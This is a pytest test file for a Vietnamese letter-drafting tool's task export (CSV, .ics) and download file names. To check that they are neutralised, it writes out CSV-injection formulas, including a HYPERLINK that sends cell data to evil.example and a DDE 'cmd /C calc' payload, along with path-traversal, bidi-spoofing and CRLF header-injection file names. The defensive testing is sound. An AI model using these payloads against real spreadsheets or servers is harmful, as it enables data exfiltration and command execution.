"""Task-list export (CSV, .ics), `drafter tasks`, and the download file names."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from urllib.parse import unquote

import pytest
from icalendar import Calendar

from drafter import cli
from drafter.filenames import content_disposition, default_filename, vietnamese_filename
from drafter.model import Letter
from drafter.tasks_export import CSV_HEADER, export_tasks, tasks_csv, tasks_ics
from tests.conftest import EXAMPLES_DIR, load_example

DAKLAK = EXAMPLES_DIR / "daklak-1691-ubnd-kgvx.json"


def letter(name: str = "daklak-1691-ubnd-kgvx.json") -> Letter:
    return Letter.from_dict(load_example(name))


def test_csv_rows() -> None:
    data = tasks_csv(letter())
    assert data.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[0]) == CSV_HEADER
    assert [r[0] for r in rows[1:]] == ["1", "2"]
    assert rows[1][3] == "10/12/2019" and rows[2][3] == ""
    assert rows[1][4] == "Công văn số 1691/UBND-KGVX ngày 05/03/2019"
    assert "**" not in rows[1][1]  # inline marks are not data


def test_csv_assignee_and_explicit_number() -> None:
    raw = load_example("daklak-1691-ubnd-kgvx.json")
    raw["noi_dung"][1]["assignee"] = "Sở Nội vụ"
    raw["noi_dung"][2]["number"] = "2.1."
    rows = list(csv.reader(io.StringIO(tasks_csv(Letter.from_dict(raw)).decode("utf-8-sig"))))
    assert rows[1][2] == "Sở Nội vụ"
    assert rows[2][0] == "2.1"


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
)


def formula_letter() -> dict:
    """Tasks whose cells would start a spreadsheet formula (issue 17, item 3)."""
    raw = load_example("daklak-1691-ubnd-kgvx.json")
    raw["noi_dung"] = [
        {"type": "task", "text": text, "assignee": "=1+1", "number": "-3"} for text in FORMULAS
    ]
    return raw


def test_csv_cells_never_start_a_formula() -> None:
    """OWASP CSV injection: a cell starting with = + - @ tab or CR gets a leading ', the
    rest of its text kept as it was (the task list is opened in Excel or LibreOffice Calc)."""
    data = tasks_csv(Letter.from_dict(formula_letter()))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [r[1] for r in rows[1:]] == ["'" + text for text in FORMULAS]
    assert {r[2] for r in rows[1:]} == {"'=1+1"}
    assert {r[0] for r in rows[1:]} == {"'-3"}
    assert rows[1][4] == "Công văn số 1691/UBND-KGVX ngày 05/03/2019"  # ordinary text as is


def test_every_csv_download_is_neutralised(
    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    """`drafter tasks` writes the same neutralised CSV (the API and the form use it too:
    tests/web/test_api.py, tests/web/test_letters.py)."""
    src = tmp_path / "formulas.json"
    src.write_text(json.dumps(formula_letter(), ensure_ascii=False), encoding="utf-8")
    assert cli.main(["tasks", str(src)]) == 0
    rows = list(csv.reader(io.StringIO(capsysbinary.readouterr().out.decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["'" + text for text in FORMULAS]


def test_ics_events() -> None:
    now = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    data = tasks_ics(letter(), now=now)
    cal = Calendar.from_ical(data)
    assert str(cal["version"]) == "2.0"
    events = list(cal.walk("VEVENT"))
    assert len(events) == 1
    event = events[0]
    assert event.decoded("dtstart") == dt.date(2019, 12, 10)
    assert event.decoded("dtend") == dt.date(2019, 12, 11)
    assert str(event["summary"]).startswith("1. Các sở, ngành")
    assert "1691/UBND-KGVX" in str(event["description"])
    assert list(event.walk("VALARM"))
    # Same letter, same UIDs: importing twice updates instead of duplicating.
    again = Calendar.from_ical(tasks_ics(letter(), now=now))
    assert [str(e["uid"]) for e in again.walk("VEVENT")] == [str(event["uid"])]


def test_ics_hostile_text_is_escaped_by_the_library() -> None:
    cal = Calendar.from_ical(tasks_ics(letter("hostile-text.json")))
    (event,) = cal.walk("VEVENT")
    assert "<w:t>" in str(event["description"])
    assert "Phòng <Kỹ thuật> & Hạ tầng" in str(event["description"])


def test_export_rejects_unknown_format() -> None:
    with pytest.raises(ValueError):
        export_tasks(letter(), "xlsx")


def test_cli_tasks(tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    out = tmp_path / "tasks.ics"
    assert cli.main(["tasks", str(DAKLAK), "--format", "ics", "-o", str(out)]) == 0
    assert out.read_bytes().startswith(b"BEGIN:VCALENDAR")
    capsysbinary.readouterr()
    assert cli.main(["tasks", str(DAKLAK)]) == 0
    assert capsysbinary.readouterr().out.decode("utf-8-sig").startswith("STT,")


def test_cli_tasks_invalid(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text('{"format": 1}', encoding="utf-8")
    assert cli.main(["tasks", str(bad), "--format", "csv"]) == 2
    assert "không hợp lệ" in capsys.readouterr().err


def test_file_names() -> None:
    daklak = letter()
    assert (
        default_filename(daklak)
        == "1691-UBND-KGVX-phoi-hop-thuc-hien-Nam-dan-van-chinh-quyen-2019.docx"
    )
    assert vietnamese_filename(daklak).startswith("1691-UBND-KGVX - phối hợp")
    hostile = vietnamese_filename(letter("hostile-text.json"))
    assert not any(ch in hostile for ch in '\\/:*?"<>|')
    raw = load_example("daklak-1691-ubnd-kgvx.json")
    raw["so"] = ""
    raw["trich_yeu"] = "rất dài " * 40
    name = vietnamese_filename(Letter.from_dict(raw))
    assert name.startswith("Dự thảo-UBND-KGVX - rất dài") and len(name) < 110
    assert name.endswith("dài.docx")


# Issue 17, item 12: what must never reach a download's name.
FORBIDDEN_IN_NAMES = (
    '/\\"\n\r\t\x00\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028'
)


def utf8_name(disposition: str) -> str:
    return unquote(disposition.split("filename*=UTF-8''")[1])


@pytest.mark.parametrize(
    "name",
    [
        "Mẫu - ../../etc/passwd.json",
        'Mẫu - C:\\Windows\\a"b.json',
        "Hóa đơn \u202excod.exe.docx",
        "Tên\u2066ẩn\u2069 \u200fđảo\u200e chiều\r\nX-Header: 1.json",
        "../.hidden.json",
    ],
)
def test_download_names_carry_no_path_quote_control_or_bidi(name: str) -> None:
    shown = utf8_name(content_disposition(name, "tep.json"))
    assert not set(shown) & set(FORBIDDEN_IN_NAMES), repr(shown)
    assert not shown.startswith((".", " ")) and shown.endswith((".json", ".docx"))


def test_a_bidi_override_in_the_subject_cannot_spoof_the_extension() -> None:
    raw = load_example("daklak-1691-ubnd-kgvx.json")
    raw["trich_yeu"] = "báo cáo \u202excod.exe"
    name = vietnamese_filename(Letter.from_dict(raw))
    assert "\u202e" not in name and name == "1691-UBND-KGVX - báo cáo xcod.exe.docx"
    assert utf8_name(content_disposition(name, default_filename(Letter.from_dict(raw)))) == name


def test_content_disposition() -> None:
    value = content_disposition("Công văn “số 1”.docx", "cong-van-so-1.docx")
    assert value.startswith('attachment; filename="cong-van-so-1.docx"; ')
    assert unquote(value.split("filename*=UTF-8''")[1]) == "Công văn “số 1”.docx"
    assert "\n" not in content_disposition("a\nb.docx", 'x"\r\n.docx')
    assert '"' not in content_disposition("a.docx", 'x".docx').split("filename=")[1][1:-30]
